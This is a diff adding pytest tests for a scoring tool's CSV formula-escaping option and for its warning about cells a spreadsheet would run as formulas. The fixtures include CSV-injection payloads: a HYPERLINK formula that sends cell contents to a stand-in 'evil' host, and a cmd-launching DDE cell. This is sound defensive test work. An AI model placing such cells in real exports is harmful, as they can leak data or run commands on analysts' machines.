@@ -841,3 +841,67 @@ def test_the_rejects_file_lists_rows_in_the_inputs_order(
     rejects = pd.read_csv(f"{output}.rejects.csv")
     assert rejects["row"].tolist() == [3, 5]
     assert rejects["code"].tolist() == ["missing_value", "ragged"]
+
+
+#: Cells a spreadsheet runs as a formula when an analyst opens the CSV, and numbers it does not.
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"click")', "@SUM(A1)", "+1+cmd|' /C calc'!A0"]
+SIGNED_NUMBERS = ["-5", "+3.2", "-1e3"]
+
+
+def _noted_input(tmp_path: Path) -> Path:
+    """data/eval.csv's first rows with a 'note' of formulas, then of signed numbers, then a
+    line that is one formula (a ragged row: its raw text goes to the rejects file)."""
+    notes = [*FORMULAS, *SIGNED_NUMBERS, *["plain"] * 4]
+    quoted = ['"' + n.replace('"', '""') + '"' for n in notes]
+    rows = [r + "," + q for r, q in zip(lines_of(EVAL.head(len(notes))), quoted, strict=True)]
+    path = tmp_path / "in.csv"
+    path.write_text("\n".join([HEADER + ",note", *rows, "=1+2"]) + "\n")
+    return path
+
+
+def test_escape_formulas_prefixes_formula_cells_and_leaves_numbers_as_they_are(
+    capsys, bundle_dir: Path, tmp_path: Path
+) -> None:
+    path = _noted_input(tmp_path)
+    output = tmp_path / "out.csv"
+    code, ledger, err = score(
+        capsys, str(bundle_dir), str(path), "--output", str(output), "--keep-column", "note",
+        "--escape-formulas",
+    )  # fmt: skip
+    assert code == 0 and ledger["rows_scored"] == 10, err
+    scored = pd.read_csv(output, dtype=str, keep_default_na=False)
+    assert scored["note"].tolist() == [
+        *("'" + f for f in FORMULAS), *SIGNED_NUMBERS, *["plain"] * 4
+    ]  # fmt: skip
+    assert scored[list(EVAL.columns)].values.tolist() == EVAL.head(10).values.tolist()
+    rejects = pd.read_csv(ledger["rejects"], dtype=str, keep_default_na=False)
+    assert rejects["raw"].tolist() == ["'=1+2"]
+    # JSON Lines is no spreadsheet's: written as read.
+    jsonl = tmp_path / "out.jsonl"
+    code, _, err = score(
+        capsys, str(bundle_dir), str(path), "--output", str(jsonl), "--keep-column", "note",
+        "--escape-formulas",
+    )  # fmt: skip
+    assert code == 0, err
+    notes = [json.loads(line)["note"] for line in jsonl.read_text().splitlines()]
+    assert notes[:3] == FORMULAS
+
+
+def test_formula_cells_are_written_as_read_and_the_summary_names_their_columns(
+    capsys, bundle_dir: Path, tmp_path: Path
+) -> None:
+    path = _noted_input(tmp_path)
+    output = tmp_path / "out.csv"
+    code = main(["score", str(bundle_dir), str(path), "--output", str(output),
+                 "--keep-column", "note"])  # fmt: skip
+    out, err = capsys.readouterr()
+    assert code == 0, err
+    scored = pd.read_csv(output, dtype=str, keep_default_na=False)
+    assert scored["note"].tolist() == [*FORMULAS, *SIGNED_NUMBERS, *["plain"] * 4]
+    rejects = pd.read_csv(f"{output}.rejects.csv", dtype=str, keep_default_na=False)
+    assert rejects["raw"].tolist() == ["=1+2"]
+    assert (
+        "warning: 4 text cells (columns note, raw of the rejects) begin with =, +, -, @, a tab "
+        "or a carriage return, which a spreadsheet runs as a formula; give --escape-formulas "
+        "to write them with a leading '"
+    ) in out, out
